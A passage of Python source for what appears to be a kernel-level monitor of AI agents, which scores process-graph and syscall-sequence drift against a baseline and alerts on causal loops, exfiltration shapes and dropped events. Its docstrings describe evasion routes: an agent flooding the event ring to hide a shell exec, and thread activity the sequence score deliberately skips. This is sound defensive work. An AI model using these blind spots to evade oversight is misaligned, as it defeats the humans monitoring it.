            self.agent_image = normalise_exe(info.exe) if info and info.exe else None
            # The agent's working directory from before the sensor attached (its chdirs from then
            # on are the kernel's records): read at attach and journalled with the agent, so live
            # and replay resolve alike.  An agent without one (a journal before version 3) is
            # asked /proc live; a replay of it keeps the cwd unknown (a token its children share).
            cwd = (info.cwd or ctx.proc.cwd(info.root_pid)) if info else None
            if info and cwd:
                self.builder.set_cwd(info.root_pid, cwd)
        return self.builder

    # -- baseline -------------------------------------------------------
    def learn(self, batch: Batch, ctx: ChannelContext) -> None:
        flows: list[ProcEdge] = []
        b = self._builder(ctx)
        b.learning = True
        edges = set(b.edges(batch.events, flows))
        for fe in self._add_flows(flows):
            if fe.kind == "flow":
                self.base_flows.add(fe.proj)
        self._batch_edges.append(edges)
        self._batch_codes.append(code_counts(batch.syscalls["window"]))

    @staticmethod
    def _nodes(edges: set[Edge]) -> set[str]:
        return {e[0] for e in edges} | {e[1] for e in edges}

    def _graph_novelty(
        self, edges: set[Edge], known_edges: set[Edge], known_nodes: set[str]
    ) -> tuple[float, list[Edge], list[str]]:
        return structural_novelty(
            edges, known_edges.__contains__, known_nodes.__contains__, self.base_roots, self.agent_image
        )

    @staticmethod
    def _values(model: SequenceModel, codes: np.ndarray, known: np.ndarray, tau: float) -> np.ndarray:
        """Novelty of each window, with every known window valued at exactly ``tau``."""
        return np.where(in_sorted(known, codes), tau, model.code_novelty(codes))

    def _seq_score(
        self, model: SequenceModel | None, cc: CodeCounts, n_filtered: int, known: np.ndarray
    ) -> tuple[float, np.ndarray, np.ndarray]:
        """Top-k mean novelty of a batch: its shipped windows plus ``n_filtered`` at ``tau``.

        Returns the score and the shipped windows' values (for evidence).
        """
        codes, counts = cc
        if model is None or (codes.size == 0 and n_filtered == 0):
            return 0.0, codes, np.zeros(0)
        vals = self._values(model, codes, known, self.tau)
        # The count of a fraction-of-the-batch score includes the windows the kernel only counted.
        k = model.scored_count(int(counts.sum()) + n_filtered)
        allv = np.append(vals, self.tau) if n_filtered else vals
        allc = np.append(counts, min(n_filtered, k)) if n_filtered else counts
        return topk_mean(allv, allc, k), codes, vals

    def kernel_filter(self) -> np.ndarray | None:
        """Window codes the kernel need not ship any more (None: no model)."""
        return self.known if self.seq is not None else None

    def finish_baseline(self, ctx: ChannelContext) -> None:
        super().finish_baseline(ctx)
        n = len(self._batch_edges)
        for e in self._batch_edges:
            self.base_edges |= e
        self.base_nodes = self._nodes(self.base_edges)
        self.base_roots = module_roots(self.base_nodes)
        # Leave-one-out graph novelty: an edge is new to batch i iff no other batch had it.
        ecount: Counter[Edge] = Counter()
        ncount: Counter[str] = Counter()
        for e in self._batch_edges:
            ecount.update(e)
            ncount.update(self._nodes(e))
        # (the same count as _graph_novelty: a node is known if another batch had it)
        g_loo = np.array(
            [
                structural_novelty(
                    e, lambda x: ecount[x] > 1, lambda v: ncount[v] > 1, self.base_roots, self.agent_image
                )[0]
                for e in self._batch_edges
            ]
        )
        s_kf = np.zeros(n)
        has_sys = np.array([cc[0].size > 0 for cc in self._batch_codes], dtype=bool)
        if has_sys.any():
            allc = merge_counts(self._batch_codes)
            self.seq = self.settings.sequence_model().fit_codes([allc])
            self.tau, self.known = self._known_windows(self.seq, allc)
            if n >= 2:
                # Interleaved k-fold, each fold run exactly as monitoring runs: a model
                # and a known set from the other batches, scored with clipping at tau.
                for fold in kfold_indices(n, KFOLD):
                    held = set(fold.tolist())
                    train = [cc for i, cc in enumerate(self._batch_codes) if i not in held and cc[0].size]
                    if not train:
                        continue
                    tr = merge_counts(train)
                    m = self.settings.sequence_model().fit_codes([tr])
                    nov = m.code_novelty(tr[0])
                    known_f = tr[0][nov <= self.tau]
                    for i in fold:
                        s_kf[i] = self._seq_score(m, self._batch_codes[i], 0, known_f)[0]
        if n:
            self.g_scale = max(G_SCALE_FLOOR, float(np.quantile(g_loo, 0.9)))
        if has_sys.sum() >= 2:
            # Location and upper spread of held-out sequence novelty: idle
            # sub-windows crowd the median, so the spread is read from the
            # upper half (q90 - q50), which is where benign busy windows live.
            s = s_kf[has_sys]
            self.s_med = float(np.median(s))
            self.s_spread = max(S_SPREAD_FLOOR, float(np.quantile(s, 0.9)) - self.s_med)
        shapes = np.array(
            [
                EXFIL_UNITS if exfil_shape(e, lambda v: ncount[v] > 1, lambda x: ecount[x] > 1) else 0.0
                for e in self._batch_edges
            ]
        )
        d = (
            g_loo / self.g_scale
            + np.where(has_sys, np.maximum(0.0, s_kf - self.s_med) / self.s_spread, 0.0)
            + shapes
        )
        self.cal = calibrate_threshold(
            d,
            floor=self.config.floor("L3", "STRUCTURAL_DRIFT", L3_FLOOR),
            budget=self.config.false_alarm_budget,
            override=self.config.threshold_override("L3", "STRUCTURAL_DRIFT"),
        )
        self._batch_edges, self._batch_codes = [], []

    def _known_windows(self, model: SequenceModel, allc: CodeCounts) -> tuple[float, np.ndarray]:
        """``tau`` (the known quantile of baseline position novelty) and the windows at or below it."""
        codes, counts = allc
        nov = model.code_novelty(codes)
        q = self.settings.known_quantile
        if q <= 0.0:
            return float(nov.min()) - 1.0, np.zeros(0, np.uint64)  # nothing known: ship everything
        tau = weighted_quantile(nov, counts, q)
        return tau, np.sort(codes[nov <= tau])

    # -- monitoring -----------------------------------------------------
    def judge(self, batch: Batch, ctx: ChannelContext) -> list[Alert]:
        flows: list[ProcEdge] = []
        b = self._builder(ctx)
        b.learning = False
        edges = set(b.edges(batch.events, flows))
        g, new_e, new_n = self._graph_novelty(edges, self.base_edges, self.base_nodes)
        sys = batch.syscalls
        st = batch.stats.get(ctx.agent)
        n_filtered = max(0, int(st["syscalls"]) - int(sys.size)) if st is not None else 0
        n_shipped = int(sys.size)
        sys, n_new_image = self._without_new_images(sys)
        sys, n_explained = self._without_explained_threads(sys, int(batch.t1_ns))
        cc = code_counts(sys["window"])
        s, codes, vals = self._seq_score(self.seq, cc, n_filtered, self.known)
        active = bool(codes.size or n_filtered)
        self.syscalls_shipped += n_shipped
        self.syscalls_known += n_filtered
        s_term = max(0.0, s - self.s_med) / self.s_spread if active else 0.0
        exfil = self._exfil.observe(
            int(batch.t1_ns), edges, self.base_nodes.__contains__, self.base_edges.__contains__
        )
        d = g / self.g_scale + s_term + (EXFIL_UNITS if exfil else 0.0)
        drift = {
            "divergence": round(d, 4),
            "threshold": round(self.cal.threshold, 4),
            "graph_novelty": int(g),
            "graph_scale": round(self.g_scale, 3),
            "sequence_novelty_nats": round(s, 4),
            "sequence_baseline_median_nats": round(self.s_med, 4),
            "sequence_baseline_spread_nats": round(self.s_spread, 4),
            "exfil_shape": exfil,
            "new_edge_count": len(new_e),
            "new_node_count": len(new_n),
            "new_edges": [_fmt_edge(e) for e in new_e[:50]],
            "new_nodes": new_n[:50],
            "sequence_known_windows_nats": round(self.tau, 4),
            "syscalls_shipped": n_shipped,
            "syscalls_known": n_filtered,
            "syscalls_of_new_images": n_new_image,
            "syscalls_of_explained_threads": n_explained,
            "novel_windows": self._windows_evidence(sys, codes, vals),
        }
        self.last = {"divergence": d, "graph": g, "sequence": s, "new_edges": len(new_e)}
        out: list[Alert] = self._lost(batch, ctx, st)
        cycle = self._cycles(self._add_flows(flows), ctx, batch, drift)
        out.extend(cycle)
        if not cycle and d > self.cal.threshold:
            key = "structure"
            out.append(
                ctx.alert("L3", "STRUCTURAL_DRIFT", int(batch.t1_ns), d, self.cal.threshold, key, drift)
            )
        return out

    @staticmethod
    def _lost(batch: Batch, ctx: ChannelContext, st: Any) -> list[Alert]:
        """EVENTS_LOST: records of this agent the kernel dropped, its event ring full.

        Why an alert and not only a counter: the event ring carries the records every channel
        judges at once (exec, connect, ptrace, hand-offs, fork/exit/open), and an agent can
        fill it on purpose: four threads reopening one file for writing lost ~880,000 records
        in 3 s here, the exec of a shell among them, and no channel saw the shell.  What was
        lost cannot be judged after the fact; that the agent's activity outran the sensor can,
        and is certified with the count.  Syscall-ring drops (the sequence model's input) are
        in the evidence but raise nothing alone: a busy new program outruns that ring without
        hiding any discrete act.  The ring is shared: the evidence says how many records other
        agents lost in the same batch (one agent's flood makes its neighbours lose records too,
        and their certificates then say so rather than accuse them).
        """
        if st is None or not (int(st["events_dropped"]) or int(st["tasks_unwatched"])):
            return []
        n = int(st["events_dropped"])
        others = sum(int(o["events_dropped"]) for a, o in batch.stats.items() if a != ctx.agent)
        evidence = {
            "events_dropped": n,
            # the ring is the host's: another agent's flood drops this one's records too
            "events_dropped_other_agents": others,
            "syscalls_dropped": int(st["sys_dropped"]),
            # forked while the scope map was full: unseen from birth, all their records lost
            "tasks_unwatched": int(st["tasks_unwatched"]),
            "events_shipped": len(batch.events),
            "window_ms": round((batch.t1_ns - batch.t0_ns) / 1e6, 1),
            "opens": int(st["opens"]),
            "forks": int(st["forks"]),
            "execs": int(st["execs"]),
            "connects": int(st["connects"]),
        }
        lost = float(n + int(st["tasks_unwatched"]))
        return [ctx.alert("L3", "EVENTS_LOST", int(batch.t1_ns), lost, 0.0, "events_lost", evidence)]

    def _without_new_images(self, sys: np.ndarray) -> tuple[np.ndarray, int]:
        """The batch's syscalls minus those of processes running an image the baseline never had.

        A program the baseline never ran has no baseline syscall language: every
        window of it is novel, which says again what the graph term already
        counts (its new ``exe:`` node).  Its windows are left out of the
        sequence score, so one new program is not counted twice; a new program
        still counts in the graph, and a known image (the agent, its usual
        tools) doing something new still counts in both.
        """
        b = self.builder
        if b is None or sys.size == 0:
            return sys, 0
        # (the images the builder knows are few; a batch's syscalls can be a million: no np.unique)
        new_pids = [pid for pid, img in {**b.images, **b.batch_images}.items() if img not in self.base_nodes]
        if not new_pids:
            return sys, 0
        drop = np.isin(sys["tgid"], np.asarray(new_pids, dtype=sys["tgid"].dtype))
        return sys[~drop], int(drop.sum())

    def explained_threads(self, sys: np.ndarray, t1_ns: int) -> set[int]:
        """Threads whose windows in this batch are the graph's to judge, not the sequence model's.

        The sequence term judges a thread's steady work.  A thread that, in
        this batch, starts a program or waits on one
        (:meth:`CausalGraphBuilder.spawning_threads`) or loads installed code
        (an import: :func:`runtime_code`) is doing something new that the graph
        already judges -- the exec and the new program, the module files -- and
        to an agent whose baseline never did it every such window is novel: 3-7
        units each in tests/journals/l3's novelty journal (``ls``, ``tar``, a
        first lazy import), as many false alerts.  Unless the thread also read a
        secret or wrote a start-up/system file in this batch
        (``CausalGraphBuilder.batch_sensitive``): then the batch is scored in
        both terms, as before.  (New threads: :meth:`thread_birth_windows`; the
        sensor ships no record of a thread's creation, only its windows.)
        """
        b = self.builder
        if b is None or sys.size == 0:
            return set()
        busy = b.spawning_threads(t1_ns)
        busy.update(
            tid
            for tid, roots in b.batch_imports.items()
            if any(installed_root(root, self.base_roots) for root in roots)
        )
        return busy - b.batch_sensitive

    @staticmethod
    def thread_birth_windows(sys: np.ndarray) -> np.ndarray:
        """Rows of ``sys`` that are a new thread starting and idling, not working.

        A thread is born in this batch if one of its windows ends in ``rseq``
        or ``set_robust_list`` (glibc makes them once, as a thread starts; a
        process's first thread is left alone, so a new process of a known image
        is scored as before).  Its windows made only of thread start-up,
        memory mapping, signal masks and futex waits are a pool's worker
        starting and waiting: a known image's first thread pool (4 workers) was
        6.6 units in tests/journals/l3's novelty journal, to an agent whose
        baseline was single-threaded.  Whatever else the new thread does
        (files, sockets, processes: an agent that runs each tool call in a fresh
        thread, as the langgraph stack does) is scored as usual.
        """
        born_rows = last_token_in(sys["window"], _START_TOKENS) & (sys["tid"] != sys["tgid"])
        if not born_rows.any():
            return np.zeros(sys.size, dtype=bool)
        rows = np.isin(sys["tid"], np.unique(sys["tid"][born_rows]))
        rows[rows] = only_tokens(sys["window"][rows], _THREAD_TOKENS)
        return rows

    def _pool_threads(self, sys: np.ndarray, spawning: set[int]) -> set[int]:
        """Threads a process started while it had fresh children: a process pool's own machinery.

        ``multiprocessing.Pool`` forks its workers and, in the parent, starts three
        threads that feed them tasks and collect their results over pipes; a
        ``Queue`` starts a feeder thread.  To a baseline that never ran a pool,
        every window of those threads is novel (session 10, a first, discarded
        recording of the DEV pool of tests/journals/l3/pool_and_wheel_dev: 10 units
        of sequence novelty from the result handler's pipe reads), and says again
        what the forks already say.  A thread born (:meth:`thread_birth_windows`) in a batch in which its
        process has a fresh child (:meth:`CausalGraphBuilder.spawning_processes`)
        is left out of the sequence term as long as that process still has one,
        unless it reads a secret or writes a persistence path; its files,
        connects and execs are the graph's as always.
        """
        born = last_token_in(sys["window"], _START_TOKENS) & (sys["tid"] != sys["tgid"])
        if born.any() and spawning:
            rows = born & np.isin(sys["tgid"], np.asarray(sorted(spawning), dtype=sys["tgid"].dtype))
            for tid, tgid in zip(sys["tid"][rows].tolist(), sys["tgid"][rows].tolist(), strict=True):
                if tid not in self._pool and len(self._pool) < MAX_POOL_THREADS:
                    self._pool[int(tid)] = int(tgid)
        self._pool = {tid: g for tid, g in self._pool.items() if g in spawning}
        return set(self._pool)

    def _without_explained_threads(self, sys: np.ndarray, t1_ns: int) -> tuple[np.ndarray, int]:
        """The batch's syscalls minus those of :meth:`explained_threads`, and how many those were.

        What the attacker gains: in-process novelty of a thread that, in the same
        batch, also spawns or imports installed code (and a new
        thread's futex/mmap-only windows) is not scored by the sequence term, unless
        it touches a secret or a persistence path; every file, exec and connect
        it makes is still the graph's, and a loop is still a cycle.
        """
        if sys.size == 0:
            return sys, 0
        busy = self.explained_threads(sys, t1_ns)
        drop = self.thread_birth_windows(sys)
        if busy:
            drop |= np.isin(sys["tid"], np.asarray(sorted(busy), dtype=sys["tid"].dtype))
        b = self.builder
        if b is not None:
            pool = self._pool_threads(sys, b.spawning_processes(t1_ns)) - b.batch_sensitive
            if pool:
                drop |= np.isin(sys["tid"], np.asarray(sorted(pool), dtype=sys["tid"].dtype))
        if b is not None and b.batch_workers:  # fresh forks of the agent (CausalGraphBuilder.fresh_forks)
            worker = np.isin(sys["tgid"], np.asarray(sorted(b.batch_workers), dtype=sys["tgid"].dtype))
            if b.batch_sensitive:
                worker &= ~np.isin(sys["tid"], np.asarray(sorted(b.batch_sensitive), dtype=sys["tid"].dtype))
            drop |= worker
        if not drop.any():
            return sys, 0
        return sys[~drop], int(drop.sum())

    @staticmethod
    def _windows_evidence(sys: np.ndarray, codes: np.ndarray, vals: np.ndarray) -> list[dict[str, Any]]:
        """The three most novel windows of the batch: which thread, which syscalls."""
        if codes.size == 0:
            return []
        m = min(3, codes.size)
        cand = np.argpartition(vals, codes.size - m)[codes.size - m :]  # O(n), not a sort
        best = cand[np.lexsort((cand, -vals[cand]))]
        out = []
        for i in best.tolist():
            code = int(codes[i])
            where = np.flatnonzero(sys["window"] == np.uint64(code))
            out.append(
                {
                    "tid": int(sys["tid"][where[0]]) if where.size else 0,
                    "novelty_nats": round(float(vals[i]), 4),
                    "syscalls": window_names(code),
                }
            )
        return out

    def _add_flows(self, flows: list[ProcEdge]) -> list[ProcEdge]:
        """Add edges to the process flow graph; returns the fresh ones.

        An edge is not fresh if the same two processes already have an edge of
        the same kind and projection (a second file of the same kind between
        the same processes adds nothing).  The graph keeps the newest
        ``max_edges`` edges: a loop that takes longer than that to close is lost.
        """
        fresh: list[ProcEdge] = []
        for fe in flows:
            into = self._radj.setdefault(fe.dst, {}).setdefault(fe.src, [])
            key = (fe.kind, fe.proj, fe.baseline_data, fe.via is None)
            if any((x.kind, x.proj, x.baseline_data, x.via is None) == key for x in into):
                continue
            into.append(fe)
            self._order.append(fe)
            fresh.append(fe)
            if len(self._order) > self.settings.max_edges:
                old = self._order.popleft()
                lst = self._radj.get(old.dst, {}).get(old.src)
                if lst is not None:
                    lst.remove(old)
                    if not lst:
                        del self._radj[old.dst][old.src]
                        if not self._radj[old.dst]:
                            del self._radj[old.dst]
        return fresh

    def _path(self, start: str, goal: str) -> list[ProcEdge] | None:
        """Shortest path of flow-graph edges from ``start`` to ``goal`` (bounded BFS), or None.

        What the graph connects, through any spawns and flows in any time order: the
        real-BPF tests ask it whether the kernel's records (xattr, rename, chdir) made
        the edges they expect.  It is NOT what a loop is (session 8: a build's edges
        connect the agent to everything; see :meth:`_cycles` and ``ProcEdge.via``).
        Searched backwards from ``goal``: its ancestors are a short chain, while
        ``start`` (typically the agent) has every child it ever spawned behind it.
        """
        nxt: dict[str, ProcEdge | None] = {goal: None}
        q = deque([goal])
        while q and len(nxt) <= MAX_BFS:
            v = q.popleft()
            if v == start:
                break
            for u, lst in self._radj.get(v, {}).items():
                if u not in nxt and lst:
                    nxt[u] = lst[0]
                    q.append(u)
        if start not in nxt:
            return None
        steps: list[ProcEdge] = []
        v = start
        while (e := nxt[v]) is not None:
            steps.append(e)
            v = e.dst
        return steps

    def _cycles(
        self, fresh: list[ProcEdge], ctx: ChannelContext, batch: Batch, drift: dict[str, Any]
    ) -> list[Alert]:
        """Fresh flows into the agent that close a loop: the agent's data came back to it.

        A loop is the agent handing work to a program and reading back what that
        program wrote: a flow into an agent process (:meth:`CausalGraphBuilder.is_agent`)
        whose writer, when it wrote, was the agent's own child (a fork, or a program
        an agent process started: ``sort -o out`` then a read of ``out``, the demo's
        ``python3 stage2.py`` writing ``loot.dat``) or had read a file the agent
        wrote (the agent's script or input, whatever started it: a ``sh -c`` in
        between changes nothing) -- the flow's ``via``.  So every loop runs forward
        in time and through the agent, with one program between its write and its read.

        What is not a loop, and why (red-team round 4 and 7 benign acts, session 8):
        a tool's own processes handing files to each other (``git bisect`` re-reading
        the ``HEAD`` its checkout child wrote: the agent is not on it), and a
        pipeline the agent started whose last step never saw the agent's data
        (``make``: ``cc1`` reads the agent's ``main.c`` and writes ``.s``, ``as``
        writes ``.o``, ``ld`` writes the binary the agent reads -- the linker is
        neither the agent's child nor fed by it).  The old search closed a loop for
        any path back through spawns and flows, in any time order: a build gave
        four, stitched from edges of one batch.

        A loop alerts only if one of its flows, seen at image level (writer image,
        file node, reader image), is one the baseline never saw -- and carries
        data written after the baseline.  A file a process wrote while the
        baseline was being learnt is the baseline's own state: the agent reading,
        long after, the ``.git`` that a ``git init`` of its baseline made (or a
        cache its tool built then) is the agent reading its environment, not a
        loop that opened now.  The baseline is, by this channel's premise, the
        agent behaving normally; a loop an attacker opens after it has at least
        one write after it.
        """
        out: list[Alert] = []
        in_reported: set[ProcEdge] = set()  # one loop closed by several flows of a batch: one alert
        for fe in fresh:
            if fe.kind != "flow" or fe.via is None or fe in in_reported:
                continue
            walk = [fe.via, fe]  # the agent -> the writer (spawn or flow), the writer -> the agent
            if len({e.src for e in walk} | {fe.dst}) < self.settings.min_cycle_processes:
                continue
            walk_flows = [e for e in walk if e.kind == "flow"]
            new_flows = [e for e in walk_flows if e.proj not in self.base_flows and not e.baseline_data]
            if not new_flows:
                continue  # every data flow of this loop was seen in the baseline, or carries its data
            images = sorted({self._img(e.src) for e in walk})
            in_reported.update(walk)
            # The loop is between PROCESSES; files are what it carries.  The same agent process, the
            # same writer and the same reader closing it again through another file (a tool run whose
            # several outputs the agent reads back: red-team round 5's workspace hash read five files
            # one git wrote, five certificates) is that loop again: it keeps its first certificate's
            # key, so the engine folds it into that certificate and counts it (issue 12: repeats
            # fold while in use; re-certified after fold_idle).
            loop = (fe.via.src, fe.src, fe.dst)
            first = self._loop_keys.get(loop)
            if first is not None:
                self._loop_keys.move_to_end(loop)
                key = first
            else:
                sig_src = "\n".join(sorted({"|".join(e.proj) for e in walk_flows} | set(images)))
                key = hashlib.sha256(sig_src.encode()).hexdigest()[:16]
                if key in self._reported_cycles:
                    continue  # the same loop again (other processes of the same images)
                self._reported_cycles.add(key)
                self._loop_keys[loop] = key
                if len(self._loop_keys) > LOOP_KEYS_MAX:
                    self._loop_keys.popitem(last=False)  # the oldest loop: a later flow of it alerts anew
            evidence = {
                "cycle": [s for e in walk for s in self._render(e)],
                "nodes": sorted({n for e in walk for n in self._render_nodes(e)})[:40],
                "images": images,
                "processes": [f"{self._img(e.src)}[{e.src.split('.')[0]}]" for e in walk],
                "paths": sorted({e.path for e in walk_flows})[:20],
                "closing_edges": self._render(fe),
                "new_edges_in_cycle": [s for e in new_flows[:10] for s in self._render(e)],
                "structural_drift": drift,
                **({"loop_of": first} if first is not None else {}),
            }
            # Binary verdict; the divergence counts the loop's flows the baseline never saw (>= 1).
            div = float(len(new_flows))
            out.append(ctx.alert("L3", "CAUSAL_CYCLE_DETECTED", int(batch.t1_ns), div, 1.0, key, evidence))
        return out

    def _img(self, node: str) -> str:
        b = self.builder
        return b.proc_image.get(node, f"exe:?{node}") if b is not None else f"exe:?{node}"

    def _render(self, e: ProcEdge) -> list[str]:
        if e.kind == "spawn":
            return [f"{self._img(e.src)} -exec-> {self._img(e.dst)}"]
        return [f"{self._img(e.src)} -write-> {e.proj[1]}", f"{e.proj[1]} -read-> {self._img(e.dst)}"]

    def _render_nodes(self, e: ProcEdge) -> list[str]:
        return [self._img(e.src), self._img(e.dst)] + ([e.proj[1]] if e.kind == "flow" else [])

    def status(self) -> dict[str, Any]:
        return {
            "state": "monitoring" if self.baselined else "learning",
            "divergence": float(self.last.get("divergence", 0.0)),
            "threshold": self.cal.threshold,
            "calibration": self.cal.to_dict(),
            "baseline_edges": len(self.base_edges),
            "baseline_nodes": len(self.base_nodes),
            "flow_graph_edges": len(self._order),
            "baseline_flows": len(self.base_flows),
            "known_windows": int(self.known.size),
            "syscalls_shipped": self.syscalls_shipped,
            "syscalls_known_in_kernel": self.syscalls_known,
            # reads of a file the agent's tree wrote that its open named by another path, or
            # relative to a directory fd (taken by inode: reads_by_inode)
            "respelled_reads": self.builder.respelled_reads if self.builder is not None else 0,
            "last": self.last,
        }

    def to_state(self) -> dict[str, Any]:
        return {
            "edges": [list(e) for e in sorted(self.base_edges)],
            "flows": [list(f) for f in sorted(self.base_flows)],
            "seq": self.seq.to_state() if self.seq is not None else None,
            "tau": self.tau,
            "known": self.known.astype("<u8").tobytes(),
            "g_scale": self.g_scale,
            "s_med": self.s_med,
            "s_spread": self.s_spread,
            "cal": self.cal.to_dict(),
        }

    def from_state(self, state: dict[str, Any]) -> None:
        self.base_edges = {(str(a), str(b), str(k)) for a, b, k in state["edges"]}
        self.base_nodes = self._nodes(self.base_edges)
        self.base_roots = module_roots(self.base_nodes)
        self.base_flows = {(str(a), str(b), str(c)) for a, b, c in state.get("flows", [])}
        self.seq = SequenceModel.from_state(state["seq"]) if state.get("seq") else None
        self.tau = float(state.get("tau", 0.0))
        known = np.frombuffer(state.get("known", b""), dtype="<u8").astype(np.uint64)
        if known.size > 1 and not bool(np.all(known[1:] > known[:-1])):
            raise ValueError("corrupt known-window table")
        self.known = known
        self.g_scale = float(state["g_scale"])
        self.s_med = float(state["s_med"])
        self.s_spread = float(state["s_spread"])
        self.cal = Calibration.from_dict(state["cal"])
        override = self.config.threshold_override("L3", "STRUCTURAL_DRIFT")
        if override is not None:
            self.cal = Calibration(override, "override")
        self.baselined = True


SPEC = register(
    ChannelSpec(
        name="L3",
        summary="process-causality graph (fork/exec/open/connect) and syscall-sequence windows",
        codes=(
            AlertCode("STRUCTURAL_DRIFT", "medium", "Agent process structure drifted from its baseline"),
            AlertCode("CAUSAL_CYCLE_DETECTED", "medium", "Causal cycle in agent activity"),
            AlertCode(
                "EVENTS_LOST",
                "high",
                "The kernel could not ship some of the agent's records (its ring was full)",
            ),
        ),
        settings=L3Settings,
        factory=CausalChannel,
    )
)
